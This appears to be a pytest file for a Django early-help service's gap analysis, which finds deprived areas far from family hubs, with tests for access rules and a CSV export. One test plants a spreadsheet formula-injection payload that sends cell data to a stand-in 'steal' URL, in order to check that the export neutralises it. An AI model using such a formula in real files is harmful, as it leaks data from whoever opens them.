"""Gap analysis: deprived areas with no family hub or children's centre within a distance,
with the children with open pathways who live in each.

The layout is small and far from Worcestershire's real places, so every figure is known:

    hub ........ Alder (decile 1)          0.3 miles: covered
                 Birch (decile 2)          2.4 miles: a gap at 1 and 2 miles, not at 3
                 Cedar (decile 3)          6.9 miles: a gap at every distance, beside a
                                           children's centre with no active service
                 Damson (decile 7)         not deprived: never listed
"""

import csv
import datetime
import io
import json

import pytest
from django.test import Client

from earlyhelp.accounts.models import District
from earlyhelp.directory.gaps import find_gaps
from earlyhelp.directory.models import (
    Location,
    LocationKind,
    Service,
    ServiceAtLocation,
    ServiceStatus,
)
from earlyhelp.pathways.models import Outcome
from earlyhelp.pathways.services import close_pathway
from earlyhelp.people.models import Family, Relationship
from earlyhelp.people.services import PersonDetails, add_new_person_to_family
from earlyhelp.places import geometry
from earlyhelp.places.models import Area
from tests.conftest import demo_user
from tests.people.helpers import family_with_pathway, make_family

HUB = (54.500, -3.000)
TODAY = datetime.date.today()


def make_area(
    code: str, name: str, district: District, centre: tuple[float, float], decile: int, rank: int
) -> Area:
    square = geometry.square(centre[0] - 0.004, centre[1] - 0.006, 0.008, 0.012)
    polygons = geometry.polygons_of(square)
    latitude, longitude = geometry.centroid(polygons)
    box = geometry.bounding_box(polygons)
    return Area.objects.create(
        code=code,
        name=name,
        authority=district.authority,
        district=district,
        boundary=json.dumps(square),
        centroid_latitude=latitude,
        centroid_longitude=longitude,
        min_latitude=box.min_latitude,
        max_latitude=box.max_latitude,
        min_longitude=box.min_longitude,
        max_longitude=box.max_longitude,
        imd_decile=decile,
        imd_rank=rank,
    )


def live_in(family: Family, area: Area) -> Family:
    Family.objects.filter(pk=family.pk).update(area=area)
    return family


def add_child(family: Family, first_name: str, born: datetime.date) -> None:
    add_new_person_to_family(
        by=demo_user("fsw"),
        family=family,
        details=PersonDetails(first_name=first_name, last_name="Test", date_of_birth=born),
        relationship=Relationship.CHILD,
    )


@pytest.fixture
def layout(demo):  # type: ignore[no-untyped-def]
    """The four areas, a hub, an idle children's centre, and families in them."""
    authority = demo.authority
    Area.objects.filter(authority=authority).delete()  # only the known layout is left
    bromsgrove = District.objects.get(authority=authority, name="Bromsgrove")
    malvern = District.objects.get(authority=authority, name="Malvern Hills")
    areas = {
        "alder": make_area("E01900001", "Alder 001A", bromsgrove, (54.505, -3.000), 1, 100),
        "birch": make_area("E01900002", "Birch 001B", bromsgrove, (54.500, -3.060), 2, 3000),
        "cedar": make_area("E01900003", "Cedar 001C", malvern, (54.600, -3.000), 3, 9000),
        "damson": make_area("E01900004", "Damson 001D", malvern, (54.400, -3.200), 7, 25000),
    }
    Location.objects.create(
        authority=authority,
        name="Alder Family Hub",
        latitude=HUB[0],
        longitude=HUB[1],
        kind=LocationKind.HUB,
        is_family_hub=True,
    )
    centre = Location.objects.create(
        authority=authority,
        name="Cedar Children's Centre",
        latitude=54.601,
        longitude=-3.000,
        kind=LocationKind.CHILDRENS_CENTRE,
    )
    stay_and_play = Service.objects.create(
        authority=authority, name="Cedar stay and play", status=ServiceStatus.INACTIVE
    )
    ServiceAtLocation.objects.create(service=stay_and_play, location=centre)

    # Birch: an open pathway with three children, of whom one turned 18 today.
    birch, _ = family_with_pathway(name="Birch family")
    live_in(birch, areas["birch"])
    add_child(birch, "Sam", TODAY - datetime.timedelta(days=17 * 365))
    add_child(birch, "Alex", TODAY.replace(year=TODAY.year - 18))
    # Birch: a family without a pathway does not count.
    live_in(make_family("Oak family"), areas["birch"])
    # Cedar: one open pathway with one child, and one closed pathway.
    live_in(family_with_pathway(name="Cedar family")[0], areas["cedar"])
    closed, pathway = family_with_pathway(name="Elm family")
    close_pathway(
        by=demo_user("fsw"),
        pathway=pathway,
        version=pathway.version,
        outcome=Outcome.RELOCATED,
        summary="Moved away",
        closed_on=TODAY,
    )
    live_in(closed, areas["cedar"])
    # Alder is covered by the hub, whoever lives there.
    live_in(family_with_pathway(name="Ash family")[0], areas["alder"])
    return {"authority": authority, "areas": areas, "centre_service": stay_and_play}


def gap_rows(analysis) -> list[tuple[str, int]]:  # type: ignore[no-untyped-def]
    return [(gap.area.code, gap.children) for gap in analysis.gaps]


def test_deprived_areas_with_no_hub_within_two_miles_are_gaps_with_their_children(layout):
    analysis = find_gaps(layout["authority"], distance_miles=2)

    assert gap_rows(analysis) == [("E01900002", 2), ("E01900003", 1)]
    assert analysis.children == 3
    assert [area.code for area in analysis.deprived] == ["E01900001", "E01900002", "E01900003"]
    birch = analysis.gaps[0]
    assert birch.nearest.name == "Alder Family Hub"
    assert birch.nearest_miles == pytest.approx(2.4, abs=0.05)


def test_the_distance_changes_the_answer(layout):
    authority = layout["authority"]

    assert gap_rows(find_gaps(authority, distance_miles=1)) == [
        ("E01900002", 2),
        ("E01900003", 1),
    ]
    assert gap_rows(find_gaps(authority, distance_miles=3)) == [("E01900003", 1)]
    assert gap_rows(find_gaps(authority, distance_miles=10)) == []


def test_a_childrens_centre_counts_once_it_offers_an_active_service(layout):
    Service.objects.filter(pk=layout["centre_service"].pk).update(status=ServiceStatus.ACTIVE)

    analysis = find_gaps(layout["authority"], distance_miles=2)

    assert gap_rows(analysis) == [("E01900002", 2)]


def test_one_district_lists_only_its_areas(layout):
    malvern = District.objects.get(authority=layout["authority"], name="Malvern Hills")

    analysis = find_gaps(layout["authority"], distance_miles=2, district=malvern)

    assert gap_rows(analysis) == [("E01900003", 1)]
    assert analysis.gaps[0].nearest.name == "Alder Family Hub"  # across the district line


def table_of(html: str) -> list[list[str]]:
    """The gap table's body rows, as the cells' text."""
    body = html.split('<tbody class="govuk-table__body">', 1)[1].split("</tbody>", 1)[0]
    rows = []
    for row in body.split("</tr>")[:-1]:
        cells = [part.split(">", 1)[1] for part in row.split("</t")[:-1]]
        rows.append([cell.split(">")[-1].strip() for cell in cells])
    return rows


def test_an_analyst_sees_the_gaps_as_a_table_and_downloads_the_same_as_csv(layout, signed_in):
    client: Client = signed_in("analyst")

    response = client.get("/directory/gaps/", {"distance": "2"})

    html = response.content.decode()
    assert response.status_code == 200
    rows = table_of(html)
    assert [row[0] for row in rows] == ["E01900002", "E01900003"]
    assert rows[0] == [
        "E01900002",
        "Birch 001B",
        "Bromsgrove",
        "2",
        "3000",
        "Alder Family Hub",
        "2.4",
        "2",
    ]
    assert "Total: 2 areas" in html
    assert "2 of 3 deprived areas" in html
    assert 'href="/directory/gaps/"' in html  # the navigation's "Service gaps"
    drawn = json.loads(html.split('<script id="gap-map" type="application/json">')[1].split("<")[0])
    assert sorted(f["properties"]["code"] for f in drawn["areas"]["features"]) == [
        "E01900001",
        "E01900002",
        "E01900003",
    ]
    assert sorted((p["kind"], p["label"]) for p in drawn["points"]) == [
        ("gap", "Birch 001B: 2 children with open pathways"),
        ("gap", "Cedar 001C: 1 child with open pathways"),
        ("hub", "Alder Family Hub (family hub)"),
    ]

    download = client.get("/directory/gaps/download.csv", {"distance": "2"})

    assert download["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(download.content.decode())))
    assert lines[0][0] == "LSOA code"
    assert lines[1:] == rows


def test_a_manager_chooses_a_distance_and_a_district(layout, signed_in):
    malvern = District.objects.get(authority=layout["authority"], name="Malvern Hills")

    response = signed_in("manager").get(
        "/directory/gaps/", {"distance": "3", "district": malvern.pk}
    )

    assert response.status_code == 200
    assert [row[0] for row in table_of(response.content.decode())] == ["E01900003"]


def test_the_page_opens_with_two_miles_and_every_district(layout, signed_in):
    response = signed_in("admin").get("/directory/gaps/")

    assert response.status_code == 200
    assert [row[0] for row in table_of(response.content.decode())] == ["E01900002", "E01900003"]


def test_a_distance_not_on_the_list_gets_an_error_summary(layout, signed_in):
    response = signed_in("analyst").get("/directory/gaps/", {"distance": "700"})

    assert response.status_code == 400
    html = response.content.decode()
    assert "govuk-error-summary" in html
    assert "Choose a distance from the list" in html
    assert (
        signed_in("analyst").get("/directory/gaps/download.csv", {"distance": "x"}).status_code
        == 400
    )


@pytest.mark.parametrize("persona", ["practitioner", "fsw", "frontdoor"])
def test_front_line_staff_are_refused_and_not_shown_the_link(layout, signed_in, persona):
    client = signed_in(persona)

    assert client.get("/directory/gaps/").status_code == 403
    assert client.get("/directory/gaps/download.csv").status_code == 403
    assert 'href="/directory/gaps/"' not in client.get("/dashboard/").content.decode()


def test_signed_out_visitors_are_sent_to_sign_in(layout):
    response = Client().get("/directory/gaps/")

    assert response.status_code == 302
    assert response["Location"].startswith("/sign-in/")


def test_a_place_name_that_looks_like_a_formula_stays_text_in_the_csv(layout, signed_in):
    # Location names come from other organisations' feeds.
    formula = '=HYPERLINK("https://example.com/steal?d="&A1,"Alder")'
    Location.objects.filter(name="Alder Family Hub").update(name=formula)
    Area.objects.filter(code="E01900002").update(name="+Birch 001B")
    client: Client = signed_in("analyst")

    download = client.get("/directory/gaps/download.csv", {"distance": "2"})

    lines = list(csv.reader(io.StringIO(download.content.decode())))
    birch = lines[1]
    assert birch[1] == "'+Birch 001B"
    assert birch[5] == f"'{formula}"
    assert birch[3:5] == ["2", "3000"] and birch[6:] == ["2.4", "2"]
